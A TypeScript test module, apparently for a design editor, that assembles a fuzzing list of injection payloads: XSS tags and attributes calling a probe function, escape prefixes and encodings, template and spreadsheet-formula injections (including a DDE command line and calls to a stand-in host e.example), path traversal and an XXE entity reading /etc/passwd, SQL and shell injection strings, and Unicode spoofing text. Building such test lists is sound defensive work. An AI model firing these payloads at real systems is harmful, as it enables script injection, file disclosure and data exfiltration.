/**
 * T-B1: what has got through somewhere, in some editor, put together from its parts: what runs or fetches, what it breaks out
 * of, how it is written. `p()` is what each of them calls if it ever runs.
 */
const RUNS = [
  '<img src=x onerror=p()>',
  '<svg onload=p()>',
  '<body onload=p()>',
  '<script>p()</script>',
  '<video src=x onerror=p()>',
  '<audio src=x onerror=p()>',
  '<input autofocus onfocus=p()>',
  '<details open ontoggle=p()>',
  '<marquee onstart=p()>',
  '<iframe srcdoc="<script>top.p()</script>">',
  '<iframe src=javascript:top.p()>',
  '<object data=javascript:p()>',
  '<embed src=javascript:p()>',
  '<a href=javascript:p()>x</a>',
  '<form action=javascript:p()><button>x',
  '<button formaction=javascript:p()>x',
  '<math href=javascript:p()>x</math>',
  '<svg><script>p()</script></svg>',
  '<svg><animate onbegin=p() attributeName=x>',
  '<svg><a href=javascript:p()><text>x',
  '<foreignObject><img src=x onerror=p()>',
  '<style>@import "//e.example/x"</style>',
  '<link rel=stylesheet href=//e.example/x>',
  '<meta http-equiv=refresh content="0;//e.example">',
  '<base href=//e.example/>',
  '<script src=//e.example/x.js></script>',
  '<img src=//e.example/x>',
  '<image href=//e.example/x />',
  '<svg><use href=//e.example/x.svg#a>',
  '<p style="background:url(//e.example/x)">',
] as const;

const OUT_OF = [
  '">',
  "'>",
  '</title>',
  '</textarea>',
  '</style>',
  '</script>',
  ']]>',
  '-->',
  '</text>',
  '</svg>',
];

const WRITTEN: readonly ((text: string) => string)[] = [
  (text) => text.toUpperCase().replace('P()', 'p()'),
  (text) => text.replace('<', '< '),
  (text) => text.replaceAll('<', '&#60;').replaceAll('>', '&#62;'),
  (text) => text.replaceAll('<', '&lt;').replaceAll('>', '&gt;'),
  (text) => text.replaceAll('<', '&#x3c;').replaceAll('>', '&#x3e;'),
  (text) => text.replaceAll('<', '%3C').replaceAll('>', '%3E'),
  (text) => text.replaceAll('<', '\\u003c').replaceAll('>', '\\u003e'),
  (text) => text.replaceAll('<', '\uff1c').replaceAll('>', '\uff1e'),
  (text) => text.replaceAll(' ', '/'),
  (text) => text.replaceAll(' ', '\t'),
  (text) => text.replaceAll('p()', 'p&#40;&#41;'),
];

const INSIDE = ["constructor.constructor('p()')()", '7*7', 'p()'];
const TEMPLATES = [
  ['{{', '}}'],
  ['${', '}'],
  ['#{', '}'],
  ['<%=', '%>'],
  ['{%', '%}'],
  ['[[', ']]'],
  ['{{{', '}}}'],
  ['`${', '}`'],
] as const;

const FORMULAS = [
  'SUM(1+1)',
  "cmd|' /C calc'!A0",
  'HYPERLINK("//e.example","x")',
  'WEBSERVICE("//e.example")',
];
const FORMULA_STARTS = ['=', '+', '-', '@', '\t=', ' ='];

const ADDRESSES = [
  'javascript:p()',
  'JaVaScRiPt:p()',
  'java\tscript:p()',
  'javascript&colon;p()',
  'javascript://%0ap()',
  'vbscript:p()',
  'data:text/html,<script>p()</script>',
  'data:image/svg+xml,<svg onload=p()>',
  '//e.example/x',
  '\\\\e.example\\share',
  'file:///etc/passwd',
  'blob:null/x',
  'url(//e.example/x)',
  'expression(p())',
];

const NAMES = [
  '__proto__',
  'constructor',
  'prototype',
  'toString',
  'hasOwnProperty',
  'null',
  'undefined',
  'NaN',
  'true',
  '0',
  '-0',
  '1e308',
  '%s%n%x',
  '../../../etc/passwd',
  'CON',
  'a|b;c&d',
  '$(id)',
  '`id`',
  "'; DROP TABLE designs; --",
  '"}]},"x":[{"',
  '<!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]>&e;',
  '<?xml-stylesheet href="//e.example/x.xsl"?>',
  '<![CDATA[<script>p()</script>]]>',
  '&e;&amp;&#0;',
  'x\\u0000y',
  'Set-Cookie: a=b',
  'a\u202egnp.exe\u202c',
  '\u2067x\u2069',
  '\u200b\u200d\ufeffx',
  `Z${'\u0300\u0301\u0302'.repeat(12)}`,
  '\ud83d\ude00'.repeat(20),
  'W'.repeat(80),
];

/** No longer than a name may be, and each once. */
export const payloads: readonly string[] = [
  ...new Set([
    ...RUNS,
    ...OUT_OF.flatMap((end) => RUNS.map((run) => `${end}${run}`)),
    ...WRITTEN.flatMap((write) => RUNS.slice(0, 12).map(write)),
    ...TEMPLATES.flatMap(([open, close]) => INSIDE.map((inside) => `${open}${inside}${close}`)),
    ...FORMULA_STARTS.flatMap((start) => FORMULAS.map((formula) => `${start}${formula}`)),
    ...ADDRESSES,
    ...NAMES,
  ]),
].filter((text) => text.length <= 80);
